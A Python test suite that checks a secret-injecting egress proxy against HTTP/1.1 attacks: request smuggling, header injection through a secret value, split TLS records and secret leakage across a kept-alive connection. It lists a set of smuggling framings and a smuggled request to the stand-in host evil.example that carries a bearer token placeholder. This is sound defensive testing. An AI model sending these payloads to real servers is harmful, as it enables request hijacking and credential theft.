"""Attacks on the interception's HTTP/1.1 parser (wire.py, llhttp through httptools, which
replaced h11): request smuggling, a header injected through the swapped value, a placeholder
cut into one-byte records, and the value carried to another host on a kept-alive connection.
The raw upstream (raw.py) reads only heads, so a body that smuggles a request shows up there
as a head of its own: every smuggling case asserts the upstream received nothing at all."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from sprawl_orch.egress.proxy import EgressProxy
from sprawl_orch.egress.rules import Rules
from sprawl_orch.secrets.intercept import Interception
from sprawl_orch.secrets.run import SecretRun
from sprawl_orch.secrets.spec import Spec
from sprawl_orch.secrets.wire import HEAD_LIMIT
from tests.secrets.raw import exchange, raw_upstream
from tests.secrets.test_attacks import VALUE, Rig, _echo, _no_value, _reply
from tests.secrets.test_attacks_wire import _pieces

# Each a request whose framing two readers could disagree on, with a second request for
# another host, carrying the placeholder, where one reader would see a body.
SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer PH\r\n\r\n"
_SMUGGLERS = {
    "te-and-cl": "Content-Length: 4\r\nTransfer-Encoding: chunked",
    "two-cl": "Content-Length: 0\r\nContent-Length: LEN",
    "cl-list": "Content-Length: 0, LEN",
    "cl-plus": "Content-Length: +LEN",
    "te-gzip-chunked": "Transfer-Encoding: gzip, chunked",
    "two-te": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "te-space-before-colon": "Transfer-Encoding : chunked",
    "te-vertical-tab": "Transfer-Encoding:\x0bchunked",
    "obs-fold-te": "X-Pad: a\r\n Transfer-Encoding: chunked",
    "obs-fold-auth": "Authorization: Bearer\r\n PH",
    "bare-cr": "X-Pad: a\rContent-Length: LEN",
    "nul-in-value": "X-Pad: a\x00b\r\nContent-Length: LEN",
    "upgrade-with-body": "Connection: upgrade\r\nUpgrade: websocket\r\nContent-Length: LEN",
}


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    with raw_upstream(_echo) as up:
        r = Rig(up, tmp_path)
        try:
            yield r
        finally:
            r.proxy.close()


@pytest.mark.parametrize("framing", list(_SMUGGLERS.values()), ids=list(_SMUGGLERS))
def test_a_request_framed_two_ways_is_cut_before_anything_is_sent(rig: Rig, framing: str) -> None:
    smuggled = SMUGGLED.replace("PH", rig.ph)
    framing = framing.replace("LEN", str(len(smuggled)))
    got = rig.send(f"POST /a HTTP/1.1\r\nHost: localhost:PORT\r\n{framing}\r\n\r\n{smuggled}")
    assert rig.up.heads == []
    assert b"HTTP/1.1 200" not in got
    _no_value(got)


@pytest.mark.parametrize("line_end", ["\n", "\r"])
def test_a_bare_line_end_is_cut(rig: Rig, line_end: str) -> None:
    head = f"GET / HTTP/1.1{line_end}Host: localhost:PORT{line_end}Authorization: Bearer PH"
    rig.send(head + line_end + line_end + SMUGGLED)
    assert rig.up.heads == []


def test_the_control_a_well_framed_body_is_passed_and_never_read_as_a_request(rig: Rig) -> None:
    """The same body, framed once: the upstream gets the request with the value, and the
    smuggled text only as body bytes (the raw upstream reads them as a head of their own,
    with the placeholder in it, never the value: the body is never swapped)."""
    smuggled = SMUGGLED.replace("PH", rig.ph)
    got = rig.send(
        f"POST /a HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
        f"Content-Length: {len(smuggled)}\r\nConnection: close\r\n\r\n{smuggled}"
    )
    assert rig.up.heads[0].startswith(b"POST /a ")
    assert f"Bearer {VALUE}".encode() in rig.up.heads[0]
    assert all(VALUE.encode() not in h for h in rig.up.heads[1:])
    assert b"HTTP/1.1 200" in got
    _no_value(got)


def test_a_chunked_body_is_passed_rechunked_and_its_trailers_dropped(rig: Rig) -> None:
    got = rig.send(
        "POST /c HTTP/1.1\r\nHost: localhost:PORT\r\nTransfer-Encoding: chunked\r\n"
        "Connection: close\r\n\r\n4;ext=1\r\nabcd\r\n0\r\nX-Trailer: PH\r\n\r\n"
    )
    assert b"HTTP/1.1 200" in got
    # The raw upstream splits at the first blank line: the head, then the chunked body.
    assert b"transfer-encoding: chunked" in rig.up.heads[0]
    assert rig.ph.encode() not in rig.received() and b"ext=1" not in rig.received()


def test_a_head_past_the_limit_is_cut(rig: Rig) -> None:
    pad = "a" * (HEAD_LIMIT + 1024)
    got = rig.send(f"GET / HTTP/1.1\r\nHost: localhost:PORT\r\nX-Pad: {pad}\r\n\r\n")
    assert rig.up.heads == [] and b"HTTP/1.1 200" not in got


def test_a_placeholder_in_one_byte_records_is_swapped_whole(rig: Rig) -> None:
    """Every byte of the head its own TLS record: llhttp hands a header value out in pieces;
    the swap must see it whole."""
    request = (
        (
            "GET /x HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
            "Connection: close\r\n\r\n"
        )
        .replace("PH", rig.ph)
        .replace("PORT", str(rig.up.port))
    )
    got = _pieces(rig, list(request), pause=0)
    assert f"Bearer {VALUE}".encode() in rig.received()
    assert rig.ph.encode() not in rig.received()
    _no_value(got)


def test_the_value_never_reaches_another_host_on_the_same_kept_alive_connection(
    rig: Rig,
) -> None:
    """A first request to the bound host, answered; then, on the same connection, one whose
    Host is another allowed host (127.0.0.1, the same upstream: the one place the value
    could land unseen). Cut: the upstream sees the first request only."""
    got = _pieces(
        rig,
        [
            "GET /one HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n\r\n",
            "GET /two HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nAuthorization: Bearer PH\r\n\r\n",
        ],
        pause=0.3,
    )
    assert [h.split(b" ")[1] for h in rig.up.heads] == [b"/one"]
    assert got.count(b"HTTP/1.1 200") == 1
    _no_value(got)


def test_a_value_with_a_line_break_is_never_written_as_a_header(tmp_path: Path) -> None:
    """config/secrets.py refuses CR, LF and NUL in a value; a value that got past it (a Spec
    made directly) is still never written: wire.py checks every header it writes."""
    with raw_upstream(_echo) as up:
        where = f"localhost:{up.port}"
        run = SecretRun(
            (
                Spec(
                    name="GH_PAT",
                    hosts=Rules.parse((where,)),
                    host_list=(where,),
                    value="abc\r\nX-Injected: 1",
                ),
            ),
            upstream_cafile=str(up.ca_file(tmp_path)),
        )
        proxy = EgressProxy(Rules.parse((where, "127.0.0.1")), secrets=Interception(run))
        proxy.start()
        try:
            listener = socket.create_server(("127.0.0.1", 0))
            proxy.serve(listener)
            bundle = tmp_path / "bundle.pem"
            bundle.write_bytes(run.ca.pem)
            ph = run.env()["GH_PAT"]
            got = exchange(
                listener.getsockname()[1],
                "localhost",
                up.port,
                bundle,
                f"GET / HTTP/1.1\r\nHost: {where}\r\nAuthorization: Bearer {ph}\r\n\r\n".encode(),
            )
        finally:
            proxy.close()
        assert up.heads == []
        assert b"X-Injected" not in got and b"HTTP/1.1 200" not in got
        assert run.report()["injected"] == []


def _head_answer(head: bytes, earlier: list[bytes]) -> bytes:
    if head.startswith(b"HEAD "):
        return b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n"
    return _reply(b"x" * 10)


@pytest.mark.parametrize("handler", [_head_answer])
def test_a_head_request_gets_its_head_and_the_connection_ends(
    tmp_path: Path, handler: object
) -> None:
    """llhttp cannot be told a HEAD's answer has no body: the reader stops at its head, the
    command gets it (Content-Length as the GET's) and `connection: close`, and a request
    after it on the connection is never sent."""
    with raw_upstream(_head_answer) as up:
        r = Rig(up, tmp_path)
        try:
            got = r.send(
                "HEAD /h HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n\r\n"
                "GET /after HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n"
            )
        finally:
            r.proxy.close()
    assert got.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"content-length: 1000\r\n" in got and b"connection: close\r\n" in got
    assert got.endswith(b"\r\n\r\n")
    assert [h.split(b" ")[1] for h in up.heads] == [b"/h"]
